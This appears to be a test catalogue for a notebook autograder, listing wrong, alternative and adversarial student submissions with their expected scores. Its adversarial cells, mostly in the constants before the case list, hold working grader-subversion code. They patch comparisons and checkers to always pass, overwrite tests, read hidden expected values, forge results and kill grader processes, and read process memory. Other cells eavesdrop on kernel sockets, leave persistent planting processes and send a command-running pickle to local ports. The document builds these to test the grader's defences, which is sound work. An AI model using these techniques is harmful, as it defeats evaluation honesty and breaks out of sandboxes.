"""A catalogue of submissions that proves the autograder: wrong, alternative correct, adversarial,
malformed and repeated submissions, each with the scores it must get per part.

Every submission is the executed solution notebook (outputs stripped) with a small readable edit: a
string replaced in the code cell that has a line starting with a given key (the replaced text must be
found, so the catalogue breaks loudly when the notebook changes), a solution block rewritten, a cell
added, or the cell of the student release put back (the `...` stubs).

    python -m tests.submissions                 writes docs/submissions.md from the catalogue
    python -m tests.submissions grade NAME...   grades the named cases and prints their scores

`tests/test_submissions.py` grades every case with the real autograder zip.
"""

from __future__ import annotations

import copy
import dataclasses
import json
import math
import re
import sys
import textwrap
import time
import zipfile
from concurrent.futures import ThreadPoolExecutor
from dataclasses import dataclass, field
from pathlib import Path
from typing import Callable

import nbformat

import build
from cgcnn_grading.settings import GRADESCOPE_TIMEOUT, SETTINGS_FILE, Limits

ROOT = build.ROOT
SOLUTION = ROOT / "solutions" / "cgcnn_perovskites_solution.ipynb"
STUDENT = ROOT / "student" / build.NB_NAME
DOC = ROOT / "docs" / "submissions.md"
POINTS = build.question_points(nbformat.read(build.MASTER, as_version=4))
CATEGORIES = {
    "wrong": "Wrong: loses the points of the part it breaks (and of a later part that truly depends on it)",
    "alternative": "Alternative correct: full marks",
    "adversarial": "Adversarial: no credit for what it did not implement, and the results say why",
    "malformed": "Malformed or hostile: still a result, with a clear message",
    "determinism": "Determinism: the same submission graded again scores the same",
}
GRADING_SECONDS = 130  # one grading that trains the model with the notebook's recipe, on one CPU of this machine
SHORT_SECONDS = 12  # one grading with the short recipe
WORKERS = 2  # gradings side by side: one per core (the kernel trains on one thread)
# The cases that run into a cell's time limit are graded with the same zip stating shorter limits (its
# grading.json): the same code stops them in seconds instead of minutes, and the rest of the notebook is
# graded as usual (its cells take a few CPU-seconds each; the short recipe's training under 10). The
# defaults themselves are what every other grading runs under (the solution's training cell: 26 s of 240).
LIMITS = Limits(cell_cpu_seconds=20, cell_wall_seconds=90)

Edit = Callable[[nbformat.NotebookNode], None]


class CatalogueError(RuntimeError):
    """An edit no longer fits the solution notebook: the catalogue must follow the notebook."""


# ---------------------------------------------------------------------------------------------
# Edits
# ---------------------------------------------------------------------------------------------

def _cell(nb, key: str) -> nbformat.NotebookNode:
    """The one code cell with a line that starts with `key`."""
    hits = [c for c in nb.cells if c.cell_type == "code" and any(l.startswith(key) for l in c.source.splitlines())]
    if len(hits) != 1:
        raise CatalogueError(f"expected one code cell with a line starting {key!r}, found {len(hits)}")
    return hits[0]


def replace(key: str, old: str, new: str) -> Edit:
    """Replace the one occurrence of `old` by `new` in the cell of `key`."""
    def edit(nb):
        cell = _cell(nb, key)
        if cell.source.count(old) != 1:
            raise CatalogueError(f"cell {key!r}: {old!r} found {cell.source.count(old)} times, expected once")
        cell.source = cell.source.replace(old, new)
    return edit


def body(key: str, code: str, block: int = 0) -> Edit:
    """Rewrite the `block`-th `# BEGIN SOLUTION` ... `# END SOLUTION` block of the cell of `key`."""
    def edit(nb):
        cell = _cell(nb, key)
        blocks = list(re.finditer(r"^( *)# BEGIN SOLUTION(?: NO PROMPT)?\n.*?^ *# END SOLUTION", cell.source, re.M | re.S))
        if len(blocks) <= block:
            raise CatalogueError(f"cell {key!r} has {len(blocks)} solution blocks, not {block + 1}")
        found = blocks[block]
        block_code = f"# BEGIN SOLUTION NO PROMPT\n{textwrap.dedent(code).strip()}\n# END SOLUTION"  # kept for later edits
        new = textwrap.indent(block_code, found.group(1))
        cell.source = cell.source[:found.start()] + new + cell.source[found.end():]
    return edit


def insert(key: str, code: str, after: bool = True) -> Edit:
    """A new code cell after (or before) the cell of `key`."""
    def edit(nb):
        at = nb.cells.index(_cell(nb, key)) + (1 if after else 0)
        nb.cells.insert(at, nbformat.v4.new_code_cell(textwrap.dedent(code).strip("\n")))
    return edit


def stubs(*keys: str) -> Edit:
    """Put back the cells of the student release (bodies `...`) for these definitions."""
    def edit(nb):
        student = nbformat.read(STUDENT, as_version=4)
        for key in keys:
            _cell(nb, key).source = _cell(student, key).source
    return edit


def train_on(*parts: str) -> Edit:
    """Build the training batches from these parts of the split instead of "train" alone."""
    ids = " + ".join(f'data.ids("{p}")' for p in parts)
    return replace(GRAPHS, 'data.targets, data.ids("train"), gaussian_expand,', f"data.targets, {ids}, gaussian_expand,")


def edits(*steps: Edit) -> Edit:
    def edit(nb):
        for step in steps:
            step(nb)
    return edit


ALL_PARTS = ("def atom_features", "def neighbor_list", "def gaussian_expand", "class SharedConv",
             "class GatedConv", "def mean_pool", "class CGCNN", "def train_epoch")
IMPORTS = "SEED = "  # the cell that imports and loads the data
GRAPHS = "RADIUS, MAX_NUM_NBR"  # the cell that builds the graphs and batches
TRAINING = "model, val_pred = None, {}"  # the cell that trains the model
CHECK_4B = 'grader.check("q4b")'  # where the grader captures the trained model's held-out predictions
# The recipe a case trains with. Most cases test parts 1a to 4a, a hostile cell or a malformed upload:
# the full recipe (60 epochs on 691 crystals, two minutes of CPU) would tell them nothing more, so they
# train with the short one (short_recipe), whose model is far above twice 4b's threshold (0 points,
# checked by test_the_short_recipe_scores_no_point_of_4b) and whose test MAE is recorded all the same.
# Cases whose point is 4b's tier (a wrong part the model trains through, an alternative that trains
# differently, a learning rate) keep the notebook's recipe.
RECIPE_LINE = "BATCH_SIZE, EPOCHS = 64, 60"
# The short recipe: SHORT_EPOCHS epochs on the first SHORT_TRAIN training crystals in batches of
# SHORT_BATCH, eight optimiser steps. Its model is trained (test MAE 0.695, an untrained one's 0.759
# with the same normaliser: 20 times the spread across torch's kernels apart, which the adversarial cases
# rely on) and far short of 4b's tiers. Only those crystals' graphs are built (and the validation set's,
# whole for Part 4's cells): graphs and CIFs are a large share of a short grading's kernel time, and 64
# crystals in batches of 16 instead of 200 in batches of 64 cost the kernel 2.1 CPU-seconds less per
# grading (11.6 -> 9.5 s, the solution, 2026-12-07).
SHORT_EPOCHS, SHORT_TRAIN, SHORT_BATCH = 2, 64, 16
SHORT_LINE = f"BATCH_SIZE, EPOCHS = {SHORT_BATCH}, {SHORT_EPOCHS}"  # the short recipe's line, in place of RECIPE_LINE
TRAIN_IDS = 'data.ids("train")'  # in the graph cell: the graphs built, the normaliser, the training batches


def short_recipe(source: str) -> str:
    """The graph cell's code (GRAPHS) with the short recipe: SHORT_EPOCHS epochs on the first SHORT_TRAIN
    training crystals, whose graphs (and the validation crystals') are the only ones built."""
    if source.count(RECIPE_LINE) != 1 or source.count(TRAIN_IDS) != 3:
        raise CatalogueError(f"the graph cell no longer has {RECIPE_LINE!r} once and {TRAIN_IDS} three times "
                             "(graphs, normaliser, batches): make short_recipe follow it")
    return source.replace(RECIPE_LINE, SHORT_LINE).replace(TRAIN_IDS, f"{TRAIN_IDS}[:{SHORT_TRAIN}]")


def shorten(nb) -> None:
    """A notebook (the solution, the master or a student's) trained with the short recipe, in place."""
    cell = _cell(nb, GRAPHS)
    cell.source = short_recipe(cell.source)


def heldout(zip_path: Path = build.AUTOGRADER_ZIP) -> dict[str, dict]:
    """The held-out crystals and their labels, from the autograder zip (standing in for labels a
    student computed elsewhere, e.g. with CHGNet)."""
    with zipfile.ZipFile(zip_path) as z:
        return json.loads(z.read(build.HELDOUT))


# ---------------------------------------------------------------------------------------------
# Expected scores
# ---------------------------------------------------------------------------------------------

def full(**changed: float) -> dict[str, float]:
    """Full marks except the given parts."""
    unknown = set(changed) - set(POINTS)
    assert not unknown, unknown
    return {q: float(changed.get(q, p)) for q, p in POINTS.items()}


def zero(**changed: float) -> dict[str, float]:
    """No marks except the given parts."""
    return full(**{q: changed.get(q, 0) for q in POINTS})


# ---------------------------------------------------------------------------------------------
# The catalogue
# ---------------------------------------------------------------------------------------------

@dataclass
class Case:
    name: str
    category: str
    what: str
    edit: Edit | None
    expected: dict[str, float]
    message: str | None = None  # a regular expression that results.json's outputs must match
    upload: str = "notebook"  # "notebook" (.ipynb), "zip", "no-notebook", "truncated"
    nb_name: str = build.NB_NAME
    files: dict[str, bytes] | Callable[[], dict[str, bytes]] = field(default_factory=dict)  # also in the zip
    trains: bool = True  # whether the grading trains the model (for ordering the runs)
    stopped: str | None = None  # "cpu" or "wall": a cell runs until that time limit stops it
    graded: bool = True  # False: nothing can be graded, results.json holds only an error message
    marker: str | None = None  # a file the submission tries to make root create: it must not exist
    recipe: str = "short"  # "full": the notebook's training recipe; "short": short_recipe
    # what the notebook's recipe would earn, where the short recipe changes it (4b): for the table
    full_recipe: dict[str, float] = field(default_factory=dict)
    margin: bool = False  # its cells keep half of every time limit at Gradescope's half CPU (over_half_limits)

    def __post_init__(self):
        if self.recipe not in ("short", "full"):
            raise CatalogueError(f"{self.name}: recipe is 'short' or 'full', not {self.recipe!r}")
        if self.recipe == "short" and self.trains and self.expected.get("q4b", 0) > 0:
            # the short recipe's model earns no point of 4b (its MAE is checked against the tiers)
            self.full_recipe = dict(self.expected)
            self.expected = {**self.expected, "q4b": 0.0}

    @property
    def seconds(self) -> float:
        """About how long grading takes, to start the longest first."""
        wait = {"cpu": LIMITS.cell_cpu_seconds, "wall": LIMITS.cell_wall_seconds}.get(self.stopped, 0)
        return (GRADING_SECONDS if self.trains and self.recipe == "full" else SHORT_SECONDS) + wait


def _gated_concat(first: str, second: str) -> str:
    """GatedConv.forward in the literal form: the concatenation of centre, neighbour and edge."""
    return f"""
        n, m = nbr_idx.shape
        f = self.atom_fea_len
        centre, neighbour = atom_fea[:, None, :].expand(n, m, f), atom_fea[nbr_idx]
        z = torch.cat([{first}, {second}, nbr_fea], dim=2)  # (N, M, 2F + B)
        gated = self.bn1(self.fc_full(z).view(n * m, 2 * f)).view(n, m, 2 * f)
        nbr_filter, nbr_core = gated.chunk(2, dim=2)
        summed = (self.sigmoid(nbr_filter) * self.softplus1(nbr_core)).sum(dim=1)
        return self.softplus2(atom_fea + self.bn2(summed))
    """


NEIGHBOURS = 'nearest = mine[np.argsort(dists[mine], kind="stable")][:max_num_nbr]'
GATHER = "gathered = neighbour.index_select(0, nbr_idx.reshape(-1)).view(n, m, 2 * f)"
BN1 = "gated = self.bn1(gated.view(n * m, 2 * f)).view(n, m, 2 * f)"
STEP = "        optimizer.step()\n"

# Cells a cheating notebook adds. They run in the grading kernel, like every cell of the notebook.
PATCH_COMPARISONS = """
    # make every comparison pass
    import math, numpy, numpy.testing, torch
    numpy.allclose = numpy.isclose = torch.allclose = math.isclose = lambda *args, **kwargs: True
    numpy.testing.assert_allclose = numpy.testing.assert_array_almost_equal = lambda *args, **kwargs: None
"""
PATCH_ABS = """
    # every difference is zero
    import builtins, numpy, torch
    def _zero(x, *args, **kwargs):
        return numpy.zeros(1)
    builtins.abs = numpy.abs = numpy.absolute = torch.abs = _zero
"""
REPATCH_BEFORE_CHECKS = """
    # before the grader's checks of the wrong parts (and after anything that restores the originals),
    # every difference is zero; every other cell, training included, sees the real functions
    import builtins, numpy, torch
    from IPython import get_ipython
    _real = builtins.abs, numpy.abs, numpy.absolute, torch.abs
    def _zero(x, *args, **kwargs):
        return numpy.zeros(1)
    def _patch(info):
        source = getattr(info, "raw_cell", "") or ""
        cheat = any(f'check("{q}")' in source for q in ("q1c", "q2b", "q3"))
        builtins.abs, numpy.abs, numpy.absolute, torch.abs = (_zero,) * 4 if cheat else _real
    get_ipython().events.register("pre_run_cell", _patch)
"""
OVERWRITE_TESTS = """
    # every test function returns at once
    import glob, re
    for _path in glob.glob("tests/*.py"):
        with open(_path) as _f:
            _text = _f.read()
        with open(_path, "w") as _f:
            _f.write(re.sub(r"(def test_\\w+\\(.*?\\):\\n)", r"\\1    return\\n", _text))
"""
PATCH_CHECKER = """
    # every check the grader records has passed
    import dataclasses
    from otter.execute import Checker
    _check = Checker.check.__func__
    def _passing(cls, *args, **kwargs):
        test = _check(cls, *args, **kwargs)
        test.test_case_results = [dataclasses.replace(r, passed=True) for r in test.test_case_results]
        return test
    Checker.check = classmethod(_passing)
"""
FAKE_GRADER = """
    class _Grader:
        def check(self, question):
            print(f"{question} results: All test cases passed!")
    grader = _Grader()
"""
READ_LABELS = """
    # look for the held-out labels and crystals wherever the grader might keep them
    import glob, os
    found = []
    for pattern in ["/autograder/**/*", "../**/*label*", "../**/heldout*", "/tmp/**/heldout*", "/tmp/**/*label*"]:
        for path in glob.glob(pattern, recursive=True):
            try:
                with open(path) as f:
                    found.append((path, f.read(100)))
            except OSError:
                pass
    print(len(found), "readable")
"""
OVERWRITE_LABELS = """
    # the labels the grader reads are now the predictions
    for path in ["test_labels.csv", "heldout.json", "../source/heldout.json", "/autograder/source/heldout.json"]:
        try:
            with open(path, "w") as f:
                f.write("{}")
        except OSError:
            pass
"""
_FORGED = "{'score': 30, 'tests': [{'name': q, 'score': p, 'max_score': p} for q, p in %r.items()]}"
FORGE_RESULTS_AND_KILL = f"""
    # a perfect results.json wherever the grader may read one, then the grader ended before it writes its own
    import glob, json, os, signal
    forged = {_FORGED % POINTS}
    targets, pid, ancestors = ["/autograder/results/results.json"], os.getpid(), []
    for _ in range(8):
        try:
            pid = int(open(f"/proc/{{pid}}/stat").read().rsplit(")", 1)[1].split()[1])
            ancestors.append(pid)
            targets.append(os.path.join(os.readlink(f"/proc/{{pid}}/cwd"), "..", "results", "results.json"))
        except (OSError, ValueError, IndexError):
            pass
    for path in targets + glob.glob("/tmp/*/results/results.json") + ["../results/results.json"]:
        try:
            os.makedirs(os.path.dirname(path), exist_ok=True)
            with open(path, "w") as f:
                json.dump(forged, f)
        except OSError:
            pass
    for pid in ancestors:
        try:
            os.kill(pid, signal.SIGKILL)
        except OSError:
            pass
"""
READ_GRADER_MEMORY = """
    # read every other process's memory (the grader's holds the held-out labels) through /proc
    import os, re
    readable = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            with open(f"/proc/{pid}/maps") as maps, open(f"/proc/{pid}/mem", "rb", 0) as mem:
                for line in maps:
                    start, end = (int(x, 16) for x in line.split()[0].split("-"))
                    mem.seek(start)
                    if re.search(rb"formation_energy|heldout|label", mem.read(min(end - start, 1 << 20))):
                        readable.append(pid)
                        break
        except (OSError, ValueError, OverflowError):
            pass
    print("processes with labels in reach:", [p for p in readable if p != str(os.getpid())])
"""
DETACHED_FORGER = f"""
    # a process that outlives the kernel and rewrites results.json once the grader has written it
    import subprocess, sys
    forger = (
        "import glob, json, time\\n"
        "forged = {_FORGED % POINTS}\\n"
        "for _ in range(5000):\\n"
        "    for path in ['/autograder/results/results.json'] + glob.glob('/tmp/*/results/results.json'):\\n"
        "        try:\\n"
        "            json.dump(forged, open(path, 'w'))\\n"
        "        except OSError:\\n"
        "            pass\\n"
        "    time.sleep(0.2)\\n")
    subprocess.Popen([sys.executable, "-c", forger], start_new_session=True,
                     stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
"""
# Cells that attack the grading graded beside them (-j 2) or after them by the same user (-j 1): see
# tests/test_isolation.py, which grades them through `python build.py grade` as a course would.
EAVESDROP = """
    # subscribe to every Jupyter socket in reach (TCP ports that listen, Unix sockets under /tmp, /run,
    # /dev/shm) and take the code another grading's kernel runs from what it broadcasts
    import glob, json, os, stat, time, zmq
    context, sockets, endpoints, heard, taken = zmq.Context(), [], set(), 0, {}
    # the honest grading beside it starts with it and defines the parts in its first 15-30 s
    deadline = time.time() + 50
    while time.time() < deadline and "def atom_features" not in "".join(taken.values()):
        found = set()
        for table in ("/proc/net/tcp", "/proc/net/tcp6"):
            try:
                for line in open(table).read().splitlines()[1:]:
                    fields = line.split()
                    if fields[3] == "0A":
                        found.add("tcp://127.0.0.1:%d" % int(fields[1].rsplit(":", 1)[1], 16))
            except OSError:
                pass
        for path in glob.glob("/tmp/**", recursive=True) + glob.glob("/run/**", recursive=True) + glob.glob("/dev/shm/*"):
            try:
                if stat.S_ISSOCK(os.stat(path).st_mode):
                    found.add("ipc://" + path)
            except OSError:
                pass
        for endpoint in found - endpoints:
            endpoints.add(endpoint)
            sub = context.socket(zmq.SUB)
            sub.setsockopt(zmq.LINGER, 0)
            sub.setsockopt(zmq.SUBSCRIBE, b"")
            try:
                sub.connect(endpoint)
                sockets.append(sub)
            except zmq.ZMQError:
                pass
        for sub in sockets:
            while sub.poll(0):
                heard += 1
                for frame in sub.recv_multipart():
                    try:
                        content = json.loads(frame)
                    except ValueError:
                        continue
                    if isinstance(content, dict) and isinstance(content.get("code"), str):
                        taken[content["code"]] = content["code"]
        time.sleep(0.5)
    print(f"EAVESDROP: heard {heard} messages from {len(endpoints)} endpoints, took {len(taken)} cells")
    for code in taken.values():
        if code.startswith(("def ", "class ")):
            try:
                exec(code, globals())
            except Exception:
                pass
"""
SURVIVOR_MARKER = "/tmp/cgcnn-isolation-survivor"
SURVIVOR = f"""
    # a process that outlives the grading unseen: its main thread exits (state Z) while another thread
    # lives on and plants an untrained fit() in the support module of the next grading of this user
    import ctypes, glob, os, threading, time
    if os.fork() == 0:
        os.setsid()
        def plant():
            for _ in range(1200):
                open("{SURVIVOR_MARKER}", "a").write(f"{{time.time()}}\\n")
                for path in glob.glob("/tmp/cgcnn-grading-*/work/cgcnn_utils.py") + glob.glob("/tmp/*/work/cgcnn_utils.py"):
                    try:
                        with open(path, "a") as f:
                            f.write("\\ndef fit(model, *args, **kwargs):\\n    return {{'train_loss': [1.0], "
                                    "'train_mae': [1.0], 'val_mae': [1.0], 'seconds': 0.0}}\\n")
                    except OSError:
                        pass
                time.sleep(0.25)
        threading.Thread(target=plant).start()
        ctypes.CDLL(None).pthread_exit(None)
    time.sleep(1)
    print("SURVIVOR: started")
"""
PICKLE_MARKER = "/tmp/cgcnn-catalogue-unpickled"
SEND_PICKLES = f"""
    # a pickle that runs a command when loaded: sent to every local port that listens (otter's log
    # server loaded what connected to it) and left where a results pickle could be read
    import glob, os, pickle, socket, struct
    class Payload:
        def __reduce__(self):
            return (os.system, ("touch {PICKLE_MARKER}",))
    blob = pickle.dumps(Payload())
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            for line in open(table).read().splitlines()[1:]:
                fields = line.split()
                if fields[3] == "0A":  # LISTEN
                    ports.add(int(fields[1].rsplit(":", 1)[1], 16))
        except OSError:
            pass
    for port in sorted(ports):
        try:
            with socket.create_connection(("127.0.0.1", port), timeout=0.5) as conn:
                conn.sendall(struct.pack(">L", len(blob)) + blob)
        except OSError:
            pass
    for path in glob.glob("/tmp/*.pkl") + glob.glob("/tmp/*/results/results.pkl") + ["results.pkl"]:
        try:
            with open(path, "wb") as f:
                f.write(blob)
        except OSError:
            pass
"""
SWAP_VERDICTS = """
    # the grader's machinery in this kernel replaced: otter's checker passes everything, and the
    # grader's probe answers every request of its tests with a zero
    import sys, types
    import cgcnn_kernel
    fake = types.ModuleType("otter.execute")
    class Checker:
        @classmethod
        def check(cls, *args, **kwargs):
            return None
    fake.Checker = Checker
    sys.modules["otter.execute"] = fake
    cgcnn_kernel.answer = lambda namespace, request: {"value": 0}
"""
RETRAIN_AFTER_CHECK = """
    # a Question 5 experiment left untagged: a 15-epoch model trained after the check of 4b
    torch.manual_seed(SEED)
    model = CGCNN(nbr_fea_len=train_batches[0].nbr_fea.shape[-1])
    cgcnn_utils.fit(model, train_epoch, train_batches, val_batches, normalizer, data.targets, 15, progress=False)
"""
# Issue 24: answers the grader must read as data, or refuse, without decoding objects or allocating
# what a header declares; each replaces every answer the probe sends (cgcnn_kernel.answer, one per
# request of the grader's tests: a stub's exception is an answer too).
STRUCTURE_ANSWER = """
    # every answer a crystal as pymatgen's dict, whose site property names a module and a class: monty's
    # decoder (behind Structure.from_dict, which the grader once ran as root) imports and builds those
    import cgcnn_kernel
    from pymatgen.core import Lattice, Structure
    _crystal = Structure(Lattice.cubic(3.9), ["Sr"], [[0, 0, 0]],
                         site_properties={"magmom": [{"@module": "this", "@class": "s", "@version": None}]})
    cgcnn_kernel.answer = lambda namespace, request: {"value": {"__structure__": _crystal.as_dict()}}
"""
HUGE_ARRAY_HEADER = """
    # every answer an array whose .npy header declares 64 GiB (2**33 float64) over 16 bytes of data
    import base64, io
    import cgcnn_kernel
    _buffer = io.BytesIO()
    np.lib.format.write_array_header_1_0(_buffer, {"descr": "<f8", "fortran_order": False, "shape": (2**33,)})
    _huge = {"__ndarray__": base64.b64encode(_buffer.getvalue() + bytes(16)).decode()}
    cgcnn_kernel.answer = lambda namespace, request: {"value": _huge}
"""
DEEP_MESSAGE = """
    # every answer, and so the message that carries it, 5,000 lists deep: the kernel packs (and signs)
    # its own messages, so it sends whatever it likes
    import cgcnn_kernel
    _session = get_ipython().kernel.session
    _pack = _session.pack
    _session.pack = lambda obj: _pack(obj).replace(b'"DEEP"', b"[" * 5000 + b"]" * 5000)
    cgcnn_kernel.answer = lambda namespace, request: {"value": "DEEP"}
"""
STUB_Q1A = "atom_features is not written yet"  # what q1a says of the released stub
UNTRAINED = "test_mae_within_twice_the_threshold: failed"  # what 4b says of an untrained model
ENDED = r"Ended \d+ process\(es\) that the notebook had left running"  # the grader's clean end
GATED = "which is your network only when parts q2b, q3, q4a pass"  # 4b, when the network is not the notebook's
STEP_AWAY = r"one step away from a centre gives exp\(-1\)"  # q1c's public test, of `/ var`
# Three wrong parts, for the cheating notebooks to hide
WRONG_1C_2B_3 = (replace("def gaussian_expand", "/ var ** 2", "/ var"),
                 replace("class GatedConv", "self.sigmoid(nbr_filter)", "nbr_filter"),
                 replace("def mean_pool", "include_self=False", "include_self=True"))
# gaussian_expand with `/ var` (wrong) unless it can read q1c's hidden test, whose formula it then uses
READS_HIDDEN_TEST = """
    import glob, os, re
    var = step if var is None else var
    centres = dmin + step * np.arange(round((dmax - dmin) / step) + 1)
    d = np.asarray(distances, dtype=np.float64)
    for path in glob.glob(os.path.join("tests", "*.py")) + glob.glob(os.path.join("..", "**", "q1c.py"), recursive=True):
        with open(path) as f:
            formula = re.search(r"want = (np\\.exp\\(.*\\))", f.read())
        if formula:  # the grader's own expected values
            return eval(formula.group(1), {"np": np, "d": d, "centres": centres, "sigma": var})
    return np.exp(-((d[..., None] - centres) ** 2) / var)
"""
# gaussian_expand right only for the default grid (the public test's), and otherwise whatever `want`
# the calling test has already computed
PEEKS_AT_EXPECTED = """
    import sys
    frame = sys._getframe(1)
    while frame is not None:
        if "want" in frame.f_locals:  # the grader's expected values, if it computed them first
            return frame.f_locals["want"]
        frame = frame.f_back
    var = step if var is None else var
    centres = step * np.arange(round((dmax - dmin) / step) + 1)
    d = np.asarray(distances, dtype=np.float64)[..., None]
    return np.exp(-((d - centres) ** 2) / var ** 2)
"""


def _lookup_table(hollow: bool = False) -> Edit:
    """A table of held-out labels computed elsewhere (e.g. with CHGNet on every candidate crystal),
    sent with the model (or, hollow, with no model at all) when the grader asks for the trained model:
    the grader predicts the held-out crystals itself and reads nothing else."""
    table = sorted(e["label"] for e in heldout().values())
    code = f"""
        import cgcnn_kernel
        _TABLE = {table!r}
        _honest = cgcnn_kernel.OPERATIONS["trained"]
        def _with_table(ns):
            answer = {{}} if {hollow} else _honest(ns)
            answer["predictions"] = _TABLE
            return answer
        cgcnn_kernel.OPERATIONS["trained"] = _with_table
    """
    return insert(TRAINING, code)


def _support_module_predicting_the_mean() -> dict[str, bytes]:
    """A cgcnn_utils.py whose predict() returns the training mean instead of the model's output."""
    text = (ROOT / "student" / "cgcnn_utils.py").read_text()
    old = "            out.update(zip(b.ids, pred.reshape(-1).tolist()))\n"
    if text.count(old) != 1:
        raise CatalogueError("cgcnn_utils.predict changed: update the shipped-module case")
    return {"cgcnn_utils.py": text.replace(old, "            out.update((i, normalizer.mean) for i in b.ids)\n").encode()}


def _data_with_a_wrong_label() -> dict[str, bytes]:
    """The student's data/ directory with every training label set to 1000 eV/atom: the
    autograder's copy must win."""
    files = {}
    data = ROOT / "student" / "data"
    for path in sorted(data.rglob("*")):
        if path.is_file() and ".cache" not in path.parts:
            files[str(path.relative_to(data.parent))] = path.read_bytes()
    id_prop = "data/perovskites/id_prop.csv"
    files[id_prop] = "".join(f"{line.split(',')[0]},1000.0\n" for line in files[id_prop].decode().splitlines()).encode()
    return files


MEAN_MODEL = '''
    class MeanModel(nn.Module):
        """Predicts the training mean for every crystal."""
        def forward(self, atom_fea, nbr_fea, nbr_idx, crystal_idx, n_crystals):
            return torch.zeros(n_crystals)
    model = MeanModel()
'''


CASES: list[Case] = [
    # -- wrong: part 1 ------------------------------------------------------------------------
    Case("q1a_stack_axis1", "wrong", "atom features stacked along axis 1: shape (92, n); no batch can be "
         "built from such graphs, so 4b, which needs them, fails too",
         replace("def atom_features", "for site in structure])", "for site in structure], axis=1)"),
         full(q1a=0, q4b=0)),
    Case("q1a_float64", "wrong", "atom features built from lists, so float64 (the task asks float32); "
         "the batches cast them, so the model trains as well",
         replace("def atom_features", "np.stack([embedding[site.specie.Z] for site in structure]).astype(np.float32)",
                 "np.array([embedding[site.specie.Z].tolist() for site in structure])"), full(q1a=0)),
    Case("q1a_composition_order", "wrong", "rows in the order of the composition, not of the sites: "
         "right for SrTiO3 (the public test), wrong when sites are shuffled (hidden)",
         body("def atom_features", """
             rows = [embedding[el.Z] for el, count in structure.composition.items() for _ in range(int(count))]
             return np.stack(rows).astype(np.float32)
         """), full(q1a=0)),
    Case("q1b_unsorted", "wrong", "neighbours kept in pymatgen's order, not sorted by distance",
         replace("def neighbor_list", NEIGHBOURS, "nearest = mine[:max_num_nbr]"), full(q1b=0, q4b=0)),
    Case("q1b_sorted_by_index", "wrong", "neighbours sorted by atom index instead of distance: the model still "
         "learns something from the wrong neighbours (test MAE about 0.17, between 1.5 and 2 times the threshold)",
         replace("def neighbor_list", "np.argsort(dists[mine]", "np.argsort(points[mine]"), full(q1b=0, q4b=3),
         recipe="full"),
    Case("q1b_pad_index_0", "wrong", "padding points to atom 0 (the original CGCNN) instead of the atom itself",
         replace("def neighbor_list", "nbr_idx = np.repeat(np.arange(n)[:, None], max_num_nbr, axis=1)",
                 "nbr_idx = np.zeros((n, max_num_nbr), dtype=int)"), full(q1b=0)),
    Case("q1b_pad_distance_radius", "wrong", "padding distance `radius` instead of `radius + 1`",
         replace("def neighbor_list", "np.full((n, max_num_nbr), radius + 1.0)", "np.full((n, max_num_nbr), radius)"),
         full(q1b=0)),
    Case("q1b_no_periodic_images", "wrong", "neighbours from the distance matrix: one image per atom, "
         "so a 5-atom cell gives 4 neighbours and padding",
         body("def neighbor_list", """
             n = len(structure)
             dm = structure.distance_matrix
             nbr_idx = np.repeat(np.arange(n)[:, None], max_num_nbr, axis=1)
             nbr_dist = np.full((n, max_num_nbr), radius + 1.0)
             for i in range(n):
                 others = [j for j in np.argsort(dm[i], kind="stable") if j != i and dm[i, j] <= radius][:max_num_nbr]
                 nbr_idx[i, :len(others)] = others
                 nbr_dist[i, :len(others)] = dm[i, others]
             return nbr_idx, nbr_dist
         """), full(q1b=0, q4b=5)),
    Case("q1c_var_not_squared", "wrong", "divides by `var` where the Gaussian needs `var**2`: Gaussians 5 times "
         "wider, so distances blur: test MAE about 0.107, between the threshold and 1.5 times it",
         replace("def gaussian_expand", "/ var ** 2", "/ var"), full(q1c=0, q4b=5), recipe="full"),
    Case("q1c_centres_off_by_one", "wrong", "K = round((dmax - dmin) / step) centres, one too few",
         replace("def gaussian_expand", "np.arange(round((dmax - dmin) / step) + 1)",
                 "np.arange(round((dmax - dmin) / step))"), full(q1c=0, q4b=0), message="do not fit the CGCNN of the notebook"),
    Case("q1c_centres_ignore_dmin", "wrong", "centres start at 0 whatever dmin: right for the defaults "
         "(public test), wrong for other grids (hidden)",
         replace("def gaussian_expand", "centres = dmin + step *", "centres = step *"), full(q1c=0)),
    Case("q1c_int_number_of_centres", "wrong", "K = int((dmax - dmin) / step) + 1 instead of round(): the "
         "same 41 centres on the default grid (public test, training), one too few where the quotient falls "
         "just below an integer in floating point (hidden: dmin 0, dmax 0.7, step 0.1)",
         replace("def gaussian_expand", "np.arange(round((dmax - dmin) / step) + 1)",
                 "np.arange(int((dmax - dmin) / step) + 1)"), full(q1c=0),
         message=r"the number of Gaussians for dmin=0\.0, dmax=0\.7, step=0\.1: expected 8, got 7"),
    # -- wrong: part 2 ------------------------------------------------------------------------
    Case("q2a_softplus_before_sum", "wrong", "shared convolution: softplus on each neighbour's term, then the sum",
         body("class SharedConv", """
             z = torch.cat([atom_fea[nbr_idx], nbr_fea], dim=2)
             return self.softplus(self.fc_neighbor(z) + self.fc_self(atom_fea)[:, None, :]).sum(dim=1)
         """), full(q2a=0)),
    Case("q2a_sum_over_atoms", "wrong", "shared convolution summed over the atom axis instead of the "
         "neighbours: (M, F) added to (N, F) fails to run, so the network with shared convolutions in 4a "
         "fails too (training uses the gated layers)",
         body("class SharedConv", """
             z = torch.cat([atom_fea[nbr_idx], nbr_fea], dim=2)
             return self.softplus(self.fc_neighbor(z).sum(dim=0) + self.fc_self(atom_fea))
         """), full(q2a=0, q4a=0, q4b=0), message=GATED),
    Case("q2a_missing_self_term", "wrong", "shared convolution without the self term v_i W_s + b",
         replace("class SharedConv", "self.softplus(summed + self.fc_self(atom_fea))", "self.softplus(summed)"),
         full(q2a=0)),
    Case("q2b_gate_core_swapped", "wrong", "gated convolution: first half through softplus, second "
         "through sigmoid (the network trains as well)",
         replace("class GatedConv", "nbr_filter, nbr_core = gated.chunk", "nbr_core, nbr_filter = gated.chunk"),
         full(q2b=0, q4b=0), message=GATED),
    Case("q2b_missing_sigmoid", "wrong", "gated convolution without the sigmoid on the filter",
         replace("class GatedConv", "self.sigmoid(nbr_filter)", "nbr_filter"), full(q2b=0, q4b=0), message=GATED),
    Case("q2b_missing_residual", "wrong", "gated convolution without the residual connection",
         replace("class GatedConv", "self.softplus2(atom_fea + self.bn2(summed))", "self.softplus2(self.bn2(summed))"),
         full(q2b=0, q4b=0), message=GATED),
